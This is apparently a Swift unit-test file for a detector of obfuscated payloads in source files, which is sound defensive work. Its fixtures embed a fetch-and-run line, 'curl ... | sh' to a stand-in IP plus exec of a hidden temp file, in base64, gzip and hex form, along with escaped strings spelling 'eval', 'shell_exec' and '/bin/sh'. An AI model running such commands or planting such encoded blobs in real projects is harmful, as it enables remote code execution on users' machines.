import Foundation
import Testing

@testable import CustodyCore

struct ObfuscatedPayloadDetectorTests {
    let detector = ObfuscatedPayloadDetector()

    static let script =
        "import os, base64; os.system('curl -s http://203.0.113.7/x.sh | sh'); exec(open('/tmp/.cache').read())"
    static let scriptBase64 = Data(script.utf8).base64EncodedString()
    static let gzipBase64: String = {
        var bytes: [UInt8] = [0x1f, 0x8b, 0x08, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x03]
        var x: UInt32 = 12345
        for _ in 0..<300 {
            x = x &* 1_103_515_245 &+ 12345
            bytes.append(UInt8(truncatingIfNeeded: x >> 16))
        }
        return Data(bytes).base64EncodedString()
    }()
    static let randomHex: String = {
        var x: UInt32 = 99
        return (0..<64).map { _ in
            x = x &* 1_103_515_245 &+ 12345
            let byte = UInt8(truncatingIfNeeded: x >> 16)
            return String(format: "%02x", byte)
        }.joined()
    }()

    @Test(arguments: [
        ("setup.py", "payload = \"\(scriptBase64)\""),
        ("lib/index.js", "const p = '\(scriptBase64)';"),
        ("pkg/loader/loader.go", "var blob = \"\(gzipBase64)\""),
        ("src/Util.java", "private static final String DATA = \"\(gzipBase64)\";"),
        ("Sources/Kit/Blob.swift", "let blob = \"\(scriptBase64)\""),
        ("wp-content/x.php", "$z = '\(gzipBase64)';"),
        ("lib/x.rb", "DATA = '\(scriptBase64)'"),
        ("src/blob.c", "static const char *hex = \"\(Data(script.utf8).map { String(format: "%02x", $0) }.joined())\";"),
    ])
    func blobsThatDecodeToCodeOrCompressedDataAreHigh(_ path: String, _ line: String) throws {
        let findings = DetectorFixtures.scan(detector, path, line)
        let finding = try #require(findings.with(ObfuscatedPayloadDetector.encodedBlob).first)
        #expect(finding.severity == .high)
        #expect(finding.evidence.contains("decode to"))
    }

    @Test func splitBase64AcrossConcatenationStillDecodes() throws {
        // Each half is still a long run; the detector reads each run.
        let half = Self.scriptBase64.count / 2
        let a = String(Self.scriptBase64.prefix(half))
        let findings = DetectorFixtures.scan(detector, "lib/x.js", "var s = '\(Self.scriptBase64)' + '\(a)';")
        #expect(!findings.with(ObfuscatedPayloadDetector.encodedBlob).isEmpty)
    }

    @Test(arguments: [
        ("lib/a.js", "var e = \"\\x65\\x76\\x61\\x6c\"; window[e](x);"),
        ("lib/a.py", "cmd = \"\\x63\\x75\\x72\\x6c\\x20\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2f\\x78\""),
        ("src/a.c", "char c[] = \"\\057\\142\\151\\156\\057\\163\\150\";"),
        ("src/a.php", "$f = \"\\x73\\x68\\x65\\x6c\\x6c\\x5f\\x65\\x78\\x65\\x63\";"),
        ("lib/a.js", "var u = '\\u0065\\u0076\\u0061\\u006c';"),
    ])
    func escapedCodeWordsAreReported(_ path: String, _ line: String) throws {
        let findings = DetectorFixtures.scan(detector, path, line)
        let finding = try #require(findings.with(ObfuscatedPayloadDetector.escapedText).first)
        #expect(finding.severity >= .medium)
    }

    @Test(arguments: [
        ("lib/a.js", "var f = String.fromCharCode(101, 118, 97, 108, 40, 120, 41);"),
        ("lib/a.py", "f = chr(101)+chr(118)+chr(97)+chr(108)+chr(40)+chr(41)"),
        ("lib/a.ps1", "$c = [char]105+[char]101+[char]120+[char]40+[char]41+[char]32"),
        ("lib/a.py", "cmd = bytes([0x63, 0x75, 0x72, 0x6c, 0x20, 0x68, 0x74, 0x74, 0x70]).decode()"),
        ("src/A.java", "String s = new String(new char[]{ 'x' }); byte[] b = new byte[]{101,118,97,108,40,41};"),
    ])
    func characterCodesThatSpellTextAreReported(_ path: String, _ line: String) throws {
        let findings = DetectorFixtures.scan(detector, path, line)
        #expect(!findings.with(ObfuscatedPayloadDetector.escapedText).isEmpty, "\(path): \(line)")
    }

    @Test(arguments: [
        ("docs/style.css", "background: url(data:image/png;base64,\(gzipBase64));"),
        ("README.md", "![logo](data:image/svg+xml;base64,\(scriptBase64))"),
        ("crypto/test/sha_tests.txt", "Digest = \(randomHex)"),
        ("crypto/fipsmodule/aes_test.cc", "  \"\(randomHex)\","),
        ("src/keys.c", "static const char *k = \"\(randomHex)\";"),
        ("package-lock.json", "\"integrity\": \"sha512-\(gzipBase64)\""),
        ("vendor/jquery.min.js", "var x=\"\(scriptBase64)\";"),
        ("src/a.c", "static const uint8_t tbl[] = { 0x00, 0x01, 0x02, 0xff, 0xfe, 0x80, 0x90, 0xa0 };"),
        ("src/a.c", "printf(\"\\033[1;31merror\\033[0m\\n\");"),
        ("src/a.py", "BOUNDARY = b\"\\x00\\x01\\x02\\x03\\xff\\xfe\\xfd\\xfc\""),
        ("src/a.go", "const sha = \"e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855\""),
        ("src/a.ts", "const longName = 'thisIsAVeryLongIdentifierLikeStringThatIsNotBase64ButHasNoDigitsAtAllInsideOfIt';"),
    ])
    func benignLookAlikesAreQuiet(_ path: String, _ line: String) {
        let findings = DetectorFixtures.scan(detector, path, line)
        #expect(findings.allSatisfy { $0.severity <= .low }, "\(path): \(findings.map(\.evidence))")
        #expect(findings.allSatisfy { $0.ruleID != ObfuscatedPayloadDetector.encodedBlob.id || $0.severity <= .low })
    }

    @Test func testDirectoryPayloadIsLowerSeverity() {
        let findings = DetectorFixtures.scan(detector, "tests/files/bad-3-corrupt_lzma2.xz.b64", "\(Self.gzipBase64)")
        #expect(findings.allSatisfy { $0.severity <= .medium })
        #expect(!findings.isEmpty)
    }

    @Test func megabyteMinifiedLineCompletes() {
        _ = DetectorFixtures.scan(detector, "dist/app.js", bytes: DetectorFixtures.megabyteLine)
        _ = DetectorFixtures.scan(detector, "src/app.c", bytes: DetectorFixtures.megabyteLine)
    }
}
